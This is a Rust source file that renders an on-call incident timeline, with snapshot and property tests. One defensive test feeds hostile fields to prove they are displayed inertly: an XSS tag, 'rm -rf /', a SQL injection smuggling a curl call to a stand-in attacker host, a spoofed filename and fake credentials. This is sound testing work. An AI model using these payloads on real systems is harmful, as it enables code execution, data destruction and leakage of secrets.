//! The INCIDENT TIMELINE: all records of one incident, in the order in which an on-call engineer needs them.

use std::{
    cmp::Reverse,
    collections::{BTreeMap, HashMap},
    fmt::Write,
};

use super::{
    alert::channel_names,
    plain::{NA, duration, line, na},
};
use crate::{
    domain::{check::CheckStatus, escalation::status::AlertEvent, time::Timestamp},
    tables::rows::{AuditRow, EscalationEvent, IncidentState, PracticeCheck, RootCause, RunbookStep, TimelineEvent},
};

/// The rows of one incident, in any order.
#[derive(Debug, Clone, Copy, Default)]
pub struct IncidentRecord<'a> {
    pub states: &'a [IncidentState],
    pub events: &'a [TimelineEvent],
    pub causes: &'a [RootCause],
    pub checks: &'a [PracticeCheck],
    pub steps: &'a [RunbookStep],
    pub alerts: &'a [EscalationEvent],
    pub audit: &'a [AuditRow],
}

/// The whole record as text. Empty sections are left out.
pub fn incident(record: &IncidentRecord) -> String {
    render(record, false)
}

/// The same, each event followed by its reference, which a correction needs.
pub fn incident_with_refs(record: &IncidentRecord) -> String {
    render(record, true)
}

fn render(record: &IncidentRecord, refs: bool) -> String {
    let state = record.states.iter().max_by_key(|state| state.seq);
    let mut text = head(state);
    timeline(&mut text, record.events, refs);
    if let Some(state) = state {
        text.push_str("\nDurations:\n");
        for DurationLine { what, definition, value } in durations(state) {
            let _ = writeln!(text, "- {what} ({definition}): {value}");
        }
        if let Some(times) = reopened(state) {
            let _ = writeln!(text, "- {times}");
        }
        affected(&mut text, state);
    }
    root_cause(&mut text, record.causes);
    checks(&mut text, record.checks);
    alerts(&mut text, record.alerts);
    steps(&mut text, record.steps);
    let lessons = lessons(state);
    if !lessons.is_empty() {
        text.push_str("\nLessons learned:\n");
    }
    for lesson in lessons {
        let _ = writeln!(text, "- {}", line(&lesson));
    }
    proof(&mut text, record.audit);
    text
}

fn head(state: Option<&IncidentState>) -> String {
    format!(
        "INCIDENT TIMELINE\n================\nID: {}\nReported: {}\nReporter: {}\nType: {}\nStatus: {}\n",
        na(state.map(|state| state.incident_id)),
        na(state.map(|state| state.reported_at)),
        na(state.map(|state| line(state.reporter.as_str()))),
        na(state.map(|state| state.incident_type)),
        na(state.map(|state| state.status)),
    )
}

fn timeline(text: &mut String, all: &[TimelineEvent], refs: bool) {
    text.push_str("\nTimeline:\n");
    let events = effective(all);
    if events.is_empty() {
        text.push_str("- n/a: no event was recorded\n");
    }
    let mut today = None;
    for event in events {
        let moment = event.occurred_at.utc();
        let day = moment.date_naive();
        if today != Some(day) {
            let _ = writeln!(text, "{day} (UTC)");
            today = Some(day);
        }
        let corrected = if event.supersedes.is_some() { " (corrected)" } else { "" };
        let name = if refs { format!(" {{{}.{}}}", event.seq, event.ordinal) } else { String::new() };
        let at = moment.format("%H:%M:%S");
        let _ = writeln!(text, "- [{at}] {}: {}{corrected}{name}", event.kind, line(&event.message));
    }
    if let Some(line) = not_shown(all) {
        let _ = writeln!(text, "{line}");
    }
}

/// Whether an event counts, and the reason if it does not.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum EventState {
    Counts,
    /// A later event replaces it.
    Corrected,
    /// A later event withdrew it.
    Withdrawn,
    /// It duplicates an earlier event.
    Repeated,
    /// It only withdraws another event.
    Withdrawal,
}

/// The state of each event. Only a later event can correct one, which excludes cycles.
fn event_states(events: &[TimelineEvent]) -> Vec<(&TimelineEvent, EventState)> {
    let mut corrections: HashMap<&str, Vec<&TimelineEvent>> = HashMap::new();
    for event in events {
        if let Some(corrected) = &event.supersedes {
            corrections.entry(corrected).or_default().push(event);
        }
    }
    let state_of = |event: &TimelineEvent| {
        let position = format!("{}.{}", event.seq, event.ordinal);
        let later = corrections.get(position.as_str()).into_iter().flatten();
        let last =
            later.filter(|by| (by.seq, by.ordinal) > (event.seq, event.ordinal)).max_by_key(|by| (by.seq, by.ordinal));
        match last {
            _ if event.withdrawn => EventState::Withdrawal,
            Some(by) if by.withdrawn => EventState::Withdrawn,
            Some(_) => EventState::Corrected,
            None if event.duplicate_of.is_some() => EventState::Repeated,
            None => EventState::Counts,
        }
    };
    events.iter().map(|event| (event, state_of(event))).collect()
}

/// The events that count, by time. Corrected, withdrawn and repeated events do not count.
pub fn effective(events: &[TimelineEvent]) -> Vec<&TimelineEvent> {
    let counting = event_states(events).into_iter().filter(|(_, state_of)| *state_of == EventState::Counts);
    let mut counting: Vec<&TimelineEvent> = counting.map(|(event, _)| event).collect();
    counting.sort_by_key(|event| (event.occurred_at, event.seq, event.ordinal));
    counting
}

/// `(2 events not shown: 1 corrected, 1 repeated)`; `None` if all events are shown.
pub(super) fn not_shown(events: &[TimelineEvent]) -> Option<String> {
    let event_states = event_states(events);
    let parts: Vec<(usize, &str)> = [
        (EventState::Corrected, "corrected"),
        (EventState::Withdrawn, "withdrawn"),
        (EventState::Repeated, "repeated"),
    ]
    .into_iter()
    .map(|(wanted, word)| (event_states.iter().filter(|(_, state_of)| *state_of == wanted).count(), word))
    .filter(|(count, _)| *count > 0)
    .collect();
    let total: usize = parts.iter().map(|(count, _)| count).sum();
    let counts: Vec<String> = parts.iter().map(|(count, word)| format!("{count} {word}")).collect();
    let events = if total == 1 { "event" } else { "events" };
    (total > 0).then(|| format!("({total} {events} not shown: {})", counts.join(", ")))
}

/// One duration with its definition.
pub(super) struct DurationLine {
    pub what: &'static str,
    pub definition: &'static str,
    pub value: String,
}

/// All durations of an incident. The total time to resolve is included only if the incident was reopened.
pub(super) fn durations(state: &IncidentState) -> Vec<DurationLine> {
    let between = |earlier: Option<Timestamp>, later: Option<Timestamp>| Some(later?.seconds_since(earlier?));
    let measure = |what: &'static str, seconds: Option<f64>, definition: &'static str| DurationLine {
        what,
        definition,
        value: unless_negative(seconds),
    };
    let reported = Some(state.reported_at);
    let mut measures = vec![
        measure("Time to detect", between(state.impact_started_at, state.detected_at), "detected − impact start"),
        measure("Time to acknowledge", between(reported, state.acknowledged_at), "first explicit ACK − reported"),
        measure(
            "Time to mitigate",
            between(state.detected_at, state.mitigated_at),
            "first successful REMEDIATE or VERIFY − detected",
        ),
        measure("Time to resolve", between(reported, state.first_resolved_at), "first resolved − reported"),
    ];
    if state.reopened > 0 {
        measures.push(measure("Time to resolve, in total", state.open_seconds, "sum of the open intervals"));
    }
    measures
}

/// `Reopened: 2 times`; `None` if it never was.
pub(super) fn reopened(state: &IncidentState) -> Option<String> {
    match state.reopened {
        1 => Some("Reopened: 1 time".into()),
        times => (times > 1).then(|| format!("Reopened: {times} times")),
    }
}

/// A negative duration is clock skew, not a measurement.
fn unless_negative(seconds: Option<f64>) -> String {
    match seconds {
        Some(negative) if negative < 0.0 => format!("{NA} (clock skew: {})", duration(seconds)),
        _ => duration(seconds),
    }
}

fn affected(text: &mut String, state: &IncidentState) {
    let _ = writeln!(text, "\nAffected:\n- {}", line(&state.title));
    let resource = state.resource_kind.as_ref().zip(state.resource_id.as_ref());
    if let Some((kind, id)) = resource.filter(|(kind, _)| kind.as_str() != "workspace") {
        let _ = write!(text, "- {} {}", line(kind.as_str()), line(id.as_str()));
        if let Some(name) = &state.resource_name {
            let _ = write!(text, ": {}", line(name));
        }
        text.push('\n');
    }
    let _ = write!(text, "- workspace {}", line(state.workspace_id.as_str()));
    if let Some(url) = &state.workspace_url {
        let _ = write!(text, ": {}", line(url));
    }
    text.push('\n');
    if let Some(impact) = &state.compliance_impact {
        let _ = writeln!(text, "- compliance: {}", line(impact));
    }
}

/// Findings of the root cause, the latest first: it is the valid one.
pub(super) fn newest_causes(causes: &[RootCause]) -> Vec<&RootCause> {
    let mut causes: Vec<&RootCause> = causes.iter().collect();
    causes.sort_by_key(|cause| Reverse(cause.seq));
    causes
}

fn root_cause(text: &mut String, causes: &[RootCause]) {
    let causes = newest_causes(causes);
    if !causes.is_empty() {
        text.push_str("\nRoot cause:\n");
    }
    for cause in causes {
        let _ = write!(text, "- {}\n  Confidence: {}", line(&cause.root_cause), cause.confidence);
        if let Some(why) = &cause.confidence_forced_because {
            let _ = write!(text, " ({})", line(why));
        }
        text.push('\n');
        let error: Vec<_> =
            [&cause.error_class, &cause.error_message].into_iter().flatten().map(|part| line(part)).collect();
        let details = [
            ("Error", (!error.is_empty()).then(|| error.join(": "))),
            ("Termination code", cause.termination_code.as_deref().map(|code| line(code).into_owned())),
            ("Evidence", cause.evidence.as_deref().map(|kinds| line(kinds).into_owned())),
            ("Missing evidence", cause.missing_evidence.as_deref().map(|kinds| line(kinds).into_owned())),
        ];
        for (name, value) in details {
            if let Some(value) = value {
                let _ = writeln!(text, "  {name}: {value}");
            }
        }
    }
}

/// The latest checks. Each request with checks has all of them.
fn checks(text: &mut String, checks: &[PracticeCheck]) {
    let last = checks.iter().map(|check| check.seq).max();
    let checks: Vec<&PracticeCheck> = checks.iter().filter(|check| Some(check.seq) == last).collect();
    if checks.is_empty() {
        return;
    }
    let with = |status: CheckStatus| {
        let mut found: Vec<&PracticeCheck> = checks.iter().copied().filter(|check| check.status == status).collect();
        found.sort_by_key(|check| (check.seq, check.ordinal));
        found
    };
    let (pass, fail, partial) = (with(CheckStatus::Pass), with(CheckStatus::Fail), with(CheckStatus::Partial));
    let _ = writeln!(
        text,
        "\nChecks: {} PASS, {} FAIL, {} PARTIAL (PARTIAL: incomplete data)",
        pass.len(),
        fail.len(),
        partial.len()
    );
    for check in fail.into_iter().chain(partial) {
        let _ = write!(text, "- {}", check.status);
        if let Some(severity) = check.severity {
            let _ = write!(text, " ({severity})");
        }
        let finding = na(check.finding.as_deref().map(line));
        let _ = writeln!(text, " {} / {}: {finding}", line(check.category.as_str()), line(check.name.as_str()));
    }
}

/// The current state of alerts that ever fired. `escalation show` has the evaluations.
fn alerts(text: &mut String, events: &[EscalationEvent]) {
    let mut latest: BTreeMap<&str, &EscalationEvent> = BTreeMap::new();
    for event in events.iter().filter(|event| event.status.is_some() && event.event != AlertEvent::NotFired) {
        let known = latest.entry(&event.dedup_key).or_insert(event);
        if (event.seq, event.ordinal) > (known.seq, known.ordinal) {
            *known = event;
        }
    }
    if !latest.is_empty() {
        text.push_str("\nEscalations:\n");
    }
    for event in latest.into_values() {
        let status = na(event.status);
        let _ = writeln!(
            text,
            "- {} {} {status}, to {}: {}",
            na(event.severity),
            event.trigger,
            channel_names(event),
            line(&event.reason)
        );
    }
}

fn steps(text: &mut String, steps: &[RunbookStep]) {
    let mut steps: Vec<&RunbookStep> = steps.iter().collect();
    steps.sort_by_key(|step| (step.seq, step.ordinal));
    if !steps.is_empty() {
        text.push_str("\nRemediation steps:\n");
    }
    for (number, step) in (1..).zip(steps) {
        let _ = write!(text, "{number}. {} ({}): ", line(&step.title), step.kind.as_str());
        let _ = match (step.applied, step.result) {
            (true, result) => writeln!(text, "applied, result {}", na(result)),
            (false, Some(result)) => writeln!(text, "not applied, result {result}"),
            (false, None) => writeln!(text, "not applied"),
        };
    }
}

/// The lessons learned. A value that is not a list of texts is one lesson.
pub(super) fn lessons(state: Option<&IncidentState>) -> Vec<String> {
    let json = state.and_then(|state| state.lessons_learned.as_deref());
    json.map_or_else(Vec::new, |json| serde_json::from_str(json).unwrap_or_else(|_| vec![json.to_owned()]))
}

fn proof(text: &mut String, audit: &[AuditRow]) {
    let mut audit: Vec<&AuditRow> = audit.iter().collect();
    audit.sort_by_key(|row| row.seq);
    if !audit.is_empty() {
        text.push_str("\nProof (rows of audit_log):\n");
    }
    for row in audit {
        let _ = writeln!(text, "- seq {} entry_hash {}", row.seq, line(&row.entry_hash));
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::{Value, json};

    use super::*;
    use crate::render::example::{
        DAILY_ETL, HOSTILE, NO_RUN_OUTPUT, VALIDATION, assert_safe, hostile_text, recorded, report,
    };

    fn rendered(json: &str) -> String {
        incident(&recorded(report(json)).record())
    }

    fn with(change: impl FnOnce(&mut Value)) -> String {
        let mut document: Value = serde_json::from_str(DAILY_ETL).unwrap();
        change(&mut document);
        rendered(&document.to_string())
    }

    #[test]
    fn a_resolved_incident_has_all_sections() {
        insta::assert_snapshot!(rendered(DAILY_ETL), @r#"
        INCIDENT TIMELINE
        ================
        ID: INC-1042
        Reported: 2026-02-11T12:21:00Z
        Reporter: oncall-data@example.test
        Type: job-failure
        Status: resolved

        Timeline:
        2026-02-11 (UTC)
        - [12:21:04] DISCOVER: Found 3 jobs, 1 with failed run
        - [12:21:19] FETCH: Retrieved run output; error: "NullPointerException"
        - [12:23:47] ANALYZE: Read notebook code; identified line 42 as root cause
        - [12:26:02] RCA: Timeout + no retries + unparsed JSON input -> HIGH confidence
        - [12:29:30] REMEDIATE: Applied max_retries=3, timeout=3600 to task transform
        - [12:35:12] VERIFY: Re-ran job; SUCCESS
        - [12:36:00] CLOSE: Incident resolved

        Durations:
        - Time to detect (detected − impact start): 14m 29s
        - Time to acknowledge (first explicit ACK − reported): n/a
        - Time to mitigate (first successful REMEDIATE or VERIFY − detected): 9m 50s
        - Time to resolve (first resolved − reported): 15m

        Affected:
        - daily-etl failed: transient timeout, no retry policy
        - job 360515640572923: daily-etl
        - workspace 7405612783315468: https://adb-7405612783315468.8.azuredatabricks.net
        - compliance: Reliability category moved from FAIL to PASS

        Root cause:
        - Job retry policies not configured (max_retries=0)
          Confidence: HIGH
          Error: java.lang.NullPointerException: Cannot invoke "String.length()" because "payload" is null
          Termination code: RUN_EXECUTION_ERROR
          Evidence: run_output, notebook_source

        Checks: 3 PASS, 1 FAIL, 0 PARTIAL (PARTIAL: incomplete data)
        - FAIL (MEDIUM) Reliability / Job retry policy: No job retry policies

        Remediation steps:
        1. Fix Job Retry Policies - daily-etl (job_settings): applied, result SUCCESS

        Lessons learned:
        - Every scheduled job needs a retry policy
        - Reject rows whose payload is null before transform

        Proof (rows of audit_log):
        - seq 17 entry_hash 9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c
        "#);
    }

    #[test]
    fn an_unknown_cause_shows_the_missing_evidence() {
        insta::assert_snapshot!(rendered(NO_RUN_OUTPUT), @"
        INCIDENT TIMELINE
        ================
        ID: INC-1042
        Reported: 2026-02-18T07:00:00Z
        Reporter: agent:databricks_mcp_agent
        Type: job-failure
        Status: investigating

        Timeline:
        2026-02-18 (UTC)
        - [07:00:09] FETCH: Cannot retrieve run output for run_id=236083407514246: PERMISSION_DENIED

        Durations:
        - Time to detect (detected − impact start): n/a
        - Time to acknowledge (first explicit ACK − reported): n/a
        - Time to mitigate (first successful REMEDIATE or VERIFY − detected): n/a
        - Time to resolve (first resolved − reported): n/a

        Affected:
        - marts-refresh failed, run output cannot be read
        - job 99887766554433: marts-refresh
        - workspace 7405612783315468

        Root cause:
        - unknown
          Confidence: LOW
          Missing evidence: run_output, notebook_source

        Escalations:
        - MEDIUM access-issue open, to NO CHANNEL: cannot retrieve run output, notebook source for job run_id=236083407514246
        - MEDIUM missing-evidence open, to NO CHANNEL: the confidence is LOW; missing: run output, notebook source

        Proof (rows of audit_log):
        - seq 17 entry_hash 9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c
        ");
    }

    #[test]
    fn a_validation_lists_failed_and_incomplete_checks() {
        insta::assert_snapshot!(rendered(VALIDATION), @"
        INCIDENT TIMELINE
        ================
        ID: INC-1042
        Reported: 2026-02-19T06:00:00Z
        Reporter: schedule:weekly-validation
        Type: security-finding
        Status: investigating

        Timeline:
        2026-02-19 (UTC)
        - [06:00:05] DISCOVER: 12 jobs, 3 warehouses, 0 catalogs

        Durations:
        - Time to detect (detected − impact start): n/a
        - Time to acknowledge (first explicit ACK − reported): n/a
        - Time to mitigate (first successful REMEDIATE or VERIFY − detected): n/a
        - Time to resolve (first resolved − reported): n/a

        Affected:
        - Best-practice validation of the workspace
        - workspace 7405612783315468

        Checks: 1 PASS, 2 FAIL, 5 PARTIAL (PARTIAL: incomplete data)
        - FAIL (HIGH) Security / Unity Catalog enabled: No metastore attached
        - FAIL (HIGH) Security / Encryption at rest with customer keys: No encryption configured for the root bucket
        - PARTIAL Reliability / Autoscaling: list_clusters failed: timeout
        - PARTIAL Reliability / Job retry policy: get_job is not available
        - PARTIAL Performance / Photon: No warehouse details
        - PARTIAL Operational Excellence / Monitoring: No access to system tables
        - PARTIAL Unity Catalog / Lineage: No access

        Escalations:
        - LOW partial-checks open, to NO CHANNEL: 5 of 8 checks are PARTIAL, more than 50 %
        - CRITICAL security-finding open, to NO CHANNEL: 2 of 2 security checks failed with high severity

        Proof (rows of audit_log):
        - seq 17 entry_hash 9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c
        ");
    }

    #[test]
    fn hostile_names_are_shown_and_do_nothing() {
        let text = rendered(HOSTILE);
        assert_safe(&text);
        insta::assert_snapshot!(text, @r"
        INCIDENT TIMELINE
        ================
        ID: INC-1042
        Reported: 2026-02-20T10:00:00Z
        Reporter: oncall@example.test
        Type: job-failure
        Status: investigating

        Timeline:
        2026-02-20 (UTC)
        - [10:00:03] FETCH: 401 for Authorization: Bearer dapi0123456789abcdef0123456789abcdef-2 while calling https://hooks.slack.com/services/T00000000/B00000000/abcdefghijklmnopqrstuvwx
        - [10:00:09] ANALYZE: spark.hadoop.fs.azure.account.key.acct.dfs.core.windows.net=Zm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYg==; jdbc:postgresql://db.example.test/x?user=svc&password=hunter2hunter2

        Durations:
        - Time to detect (detected − impact start): n/a
        - Time to acknowledge (first explicit ACK − reported): n/a
        - Time to mitigate (first successful REMEDIATE or VERIFY − detected): n/a
        - Time to resolve (first resolved − reported): n/a

        Affected:
        - </script><img src=x onerror=alert(1)> | job | `rm -rf /` <!channel> \u{202e}gnp.exe
        - job 1: x'; curl http://evil.example.test/$(whoami) #\n; DROP TABLE audit_log; --
        - workspace 7405612783315468

        Root cause:
        - Expired token in the job's secret scope
          Confidence: MEDIUM
          Evidence: run_output

        Remediation steps:
        1. Raise timeout (job_settings): not applied

        Proof (rows of audit_log):
        - seq 17 entry_hash 9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c
        ");
    }

    #[test]
    fn an_incident_without_records_is_all_na() {
        insta::assert_snapshot!(incident(&IncidentRecord::default()), @"
        INCIDENT TIMELINE
        ================
        ID: n/a
        Reported: n/a
        Reporter: n/a
        Type: n/a
        Status: n/a

        Timeline:
        - n/a: no event was recorded
        ");
    }

    #[test]
    fn a_forced_confidence_shows_its_reason() {
        let text = with(|document| document["rca"]["missing_evidence"] = json!(["sql"]));
        insta::assert_snapshot!(text.lines().find(|line| line.contains("Confidence")).unwrap(), @"  Confidence: LOW (reported HIGH, but evidence is missing: sql)");
    }

    #[test]
    fn clock_skew_is_not_a_measurement() {
        let text = with(|document| document["incident"]["detected_at"] = json!("2026-02-11T12:04:59Z"));
        insta::assert_snapshot!(text.lines().find(|line| line.contains("Time to detect")).unwrap(), @"- Time to detect (detected − impact start): n/a (clock skew: −12s)");
    }

    #[test]
    fn events_are_sorted_under_the_day_they_happened_on() {
        let text = with(|document| {
            document["timeline"] = json!([
                { "at": "2026-02-12T00:00:01+01:00", "kind": "NOTE", "message": "third, still the 11th in UTC" },
                { "at": "2026-02-11T12:21:04Z", "kind": "DISCOVER", "message": "first" },
                { "at": "2026-02-11T12:21:04Z", "kind": "FETCH", "message": "second, same moment" },
                { "at": "2026-02-12T00:00:00Z", "kind": "CLOSE", "message": "fourth" },
                { "at": "2026-02-12T09:00:00Z", "kind": "REOPEN", "message": "fifth" },
                { "at": "2026-02-12T10:00:00Z", "kind": "CLOSE", "message": "sixth" },
            ]);
        });
        let (_, rest) = text.split_once("Timeline:\n").unwrap();
        let (render, _) = rest.split_once("\nDurations").unwrap();
        insta::assert_snapshot!(render, @"
        2026-02-11 (UTC)
        - [12:21:04] DISCOVER: first
        - [12:21:04] FETCH: second, same moment
        - [23:00:01] NOTE: third, still the 11th in UTC
        2026-02-12 (UTC)
        - [00:00:00] CLOSE: fourth
        - [09:00:00] REOPEN: fifth
        - [10:00:00] CLOSE: sixth
        ");
    }

    #[test]
    fn a_reopened_incident_has_a_first_and_a_total_time_to_resolve() {
        fn check(reopened: i32, open_seconds: Option<f64>, render: &[&str]) {
            let mut incident = recorded(report(DAILY_ETL));
            let state = &mut incident.projections.incident_states[0];
            (state.reopened, state.open_seconds) = (reopened, open_seconds);
            let text = super::incident(&incident.record());
            let wanted = |line: &&str| line.contains("resolve") && !line.contains("CLOSE") || line.contains("Reopened");
            assert_eq!(text.lines().filter(wanted).skip(1).collect::<Vec<_>>(), render);
        }
        const FIRST: &str = "- Time to resolve (first resolved − reported): 15m";
        check(0, Some(900.0), &[FIRST]);
        check(
            1,
            Some(4500.0),
            &[FIRST, "- Time to resolve, in total (sum of the open intervals): 1h 15m", "- Reopened: 1 time"],
        );
        check(2, None, &[FIRST, "- Time to resolve, in total (sum of the open intervals): n/a", "- Reopened: 2 times"]);
    }

    /// `seq.1`, what it supersedes, whether it only withdraws, what it repeats.
    fn event(seq: u64, supersedes: Option<&str>, withdrawn: bool, duplicate_of: Option<&str>) -> TimelineEvent {
        let event = recorded(report(DAILY_ETL)).projections.timeline_events.remove(0);
        let [supersedes, duplicate_of] = [supersedes, duplicate_of].map(|position| position.map(ToOwned::to_owned));
        TimelineEvent { seq, message: format!("event {seq}"), supersedes, withdrawn, duplicate_of, ..event }
    }

    #[test]
    fn corrected_withdrawn_and_repeated_events_do_not_count() {
        fn check(events: &[TimelineEvent], counting: &[u64], render: Option<&str>) {
            assert_eq!(effective(events).iter().map(|event| event.seq).collect::<Vec<_>>(), counting);
            assert_eq!(not_shown(events).as_deref(), render);
        }
        let (one, two) = (event(1, None, false, None), event(2, None, false, None));
        check(&[two.clone(), one.clone()], &[1, 2], None);
        let corrected = event(3, Some("1.1"), false, None);
        check(&[one.clone(), two.clone(), corrected.clone()], &[2, 3], Some("(1 event not shown: 1 corrected)"));
        let again = event(4, Some("3.1"), false, None);
        check(&[one.clone(), corrected.clone(), again], &[4], Some("(2 events not shown: 2 corrected)"));
        let withdrawal = event(5, Some("1.1"), true, None);
        check(&[one.clone(), two.clone(), withdrawal.clone()], &[2], Some("(1 event not shown: 1 withdrawn)"));
        check(&[one.clone(), corrected, withdrawal], &[3], Some("(1 event not shown: 1 withdrawn)"));
        let repeated = event(6, None, false, Some("1.1"));
        check(&[one, two, repeated], &[1, 2], Some("(1 event not shown: 1 repeated)"));
        // An event cannot correct itself or a later event.
        check(&[event(7, Some("7.1"), false, None)], &[7], None);
        check(&[event(8, Some("9.1"), false, None), event(9, None, false, None)], &[8, 9], None);
        check(
            &[event(8, Some("9.1"), false, None), event(9, Some("8.1"), false, None)],
            &[9],
            Some("(1 event not shown: 1 corrected)"),
        );
    }

    #[test]
    fn corrections_are_marked_and_hidden_events_are_counted() {
        let mut incident = recorded(report(NO_RUN_OUTPUT));
        let events = &mut incident.projections.timeline_events;
        let first = events[0].clone();
        let position = Some(format!("{}.{}", first.seq, first.ordinal));
        events.push(TimelineEvent { seq: 18, supersedes: position, message: "Right".into(), ..first.clone() });
        events.push(TimelineEvent { seq: 19, duplicate_of: Some("18.1".into()), ..first });
        let text = super::incident(&incident.record());
        let (_, rest) = text.split_once("Timeline:\n").unwrap();
        insta::assert_snapshot!(rest.split_once("\nDurations").unwrap().0, @"
        2026-02-18 (UTC)
        - [07:00:09] FETCH: Right (corrected)
        (2 events not shown: 1 corrected, 1 repeated)
        ");
    }

    #[test]
    fn ten_thousand_events_are_ten_thousand_lines() {
        let text = with(|document| {
            let event = document["timeline"][0].clone();
            let numbered = |n: usize| {
                let mut event = event.clone();
                event["message"] = json!(format!("event {n}"));
                event
            };
            document["timeline"] = Value::Array((0..10_000).map(numbered).collect());
        });
        let few = with(|document| document["timeline"] = json!([document["timeline"][0].clone()]));
        assert_eq!(text.lines().count(), few.lines().count() + 9_999);
    }

    proptest! {
        #[test]
        fn nothing_hostile_gets_out_or_adds_a_line(text in hostile_text()) {
            prop_assume!(!text.trim().is_empty());
            let everywhere = |words: &str| with(|document| {
                document["incident"]["title"] = json!(words);
                document["incident"]["reporter"] = json!(words);
                document["workspace"] = json!({ "id": words, "url": words });
                document["resources"] = json!([{ "kind": words, "id": words, "name": words }]);
                document["timeline"][0]["message"] = json!(words);
                document["rca"] = json!({
                    "root_cause": words, "confidence": "HIGH", "evidence": [words], "missing_evidence": [words],
                    "error": { "class": words, "message": words, "termination_code": words },
                });
                document["checks"] = json!([
                    { "category": words, "name": words, "status": "FAIL", "finding": words },
                    { "category": words, "name": words, "status": "PARTIAL" },
                ]);
                document["remediation"][0]["title"] = json!(words);
                document["compliance_impact"] = json!(words);
                document["lessons_learned"] = json!([words]);
            });
            let output = everywhere(&text);
            assert_safe(&output);
            prop_assert_eq!(output.lines().count(), everywhere("harmless").lines().count());
        }
    }
}
